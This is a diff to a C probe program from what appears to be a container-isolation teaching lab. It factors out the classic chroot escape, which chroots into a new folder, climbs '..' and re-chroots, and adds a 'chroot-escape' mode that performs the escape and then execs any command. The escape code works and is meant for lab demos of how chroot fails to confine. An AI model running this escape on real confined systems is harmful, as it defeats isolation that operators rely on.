@@ -53,6 +53,9 @@
  *                  and "status_filters N" (lines of /proc/self/status)
  * Unknown arguments are only reported (as "arg N VALUE"): the probe also
  * checks that a lab passes the command's own options through.
+ *
+ * Run under the name chroot-escape (chroot-escape COMMAND [ARG...]), it is
+ * the demos' chroot escape instead: the same escape as --escape, then COMMAND.
  */
 #define _GNU_SOURCE
 #include <errno.h>
@@ -514,25 +517,65 @@ static void syscalls_report(const char *list)
 
 static const char *escape_path;
 
-static int try_escape(void)
+/* The classic chroot escape: chroot(2) moves the root, not the working
+ * directory, so chroot into a fresh folder below (the working directory is
+ * then outside the new root), climb ".." as far as it goes, and make that
+ * the root. Under a plain chroot that is the real /; after pivot_root with
+ * the old root detached (lab 10), the container's own. 0, or the errno of
+ * the step that failed. */
+static int chroot_escape(const char *dir)
 {
-    char dir[64];
     int i;
 
-    snprintf(dir, sizeof dir, "/tmp/.nslab-escape-%d", (int)getpid());
     if (mkdir(dir, 0700) == -1 || chroot(dir) == -1) {
         int err = errno;
-        report("escape_chroot %s", strerrorname_np(err));
         rmdir(dir);
-        return 1;
+        return err;
     }
     /* The working directory is outside the new root now: climb. */
     for (i = 0; i < 64; i++)
         if (chdir("..") == -1)
             break;
-    report("escape_chroot %s", chroot(".") == 0 ? "ok" : strerrorname_np(errno));
-    report("escape_sees %s", access(escape_path, F_OK) == 0 ? "yes" : "no");
-    return 0;
+    return chroot(".") == 0 ? 0 : errno;
+}
+
+static int try_escape(void)
+{
+    char dir[64];
+    int err;
+
+    snprintf(dir, sizeof dir, "/tmp/.nslab-escape-%d", (int)getpid());
+    err = chroot_escape(dir);
+    report("escape_chroot %s", err ? strerrorname_np(err) : "ok");
+    if (!err)
+        report("escape_sees %s", access(escape_path, F_OK) == 0 ? "yes" : "no");
+    return err ? 1 : 0;
+}
+
+/* Run as "chroot-escape COMMAND [ARG...]" (the demos of lab 10): the escape,
+ * then COMMAND wherever it ended. */
+static int escape_and_run(int argc, char **argv)
+{
+    char dir[64];
+    int err, tmp;
+
+    if (argc < 2) {
+        fprintf(stderr, "usage: chroot-escape COMMAND [ARG...]\n");
+        return 2;
+    }
+    snprintf(dir, sizeof dir, "/tmp/chroot-escape.%d", (int)getpid());
+    tmp = open("/tmp", O_PATH | O_DIRECTORY | O_CLOEXEC);
+    err = chroot_escape(dir);
+    if (err) {
+        fprintf(stderr, "chroot-escape: %s\n", strerror(err));
+        return 1;
+    }
+    if (tmp != -1)
+        unlinkat(tmp, strrchr(dir, '/') + 1, AT_REMOVEDIR);
+    fprintf(stderr, "chroot-escape: chroot(\"%s\"), chdir(\"..\") 64 times, chroot(\".\"), exec %s\n", dir, argv[1]);
+    execvp(argv[1], argv + 1);
+    perror(argv[1]);
+    return 127;
 }
 
 static void escape_report(const char *path)
@@ -596,7 +639,11 @@ int main(int argc, char **argv)
 {
     struct utsname u;
     int i, wait = 0, code = 0, writes = 0, sizes = 0;
+    const char *self = strrchr(argv[0], '/') ? strrchr(argv[0], '/') + 1 : argv[0];
     char go;
+
+    if (strcmp(self, "chroot-escape") == 0)
+        return escape_and_run(argc, argv);
 
     if (fcntl(report_fd, F_GETFD) == -1)
         report_fd = 1;   /* run by hand: report on stdout */
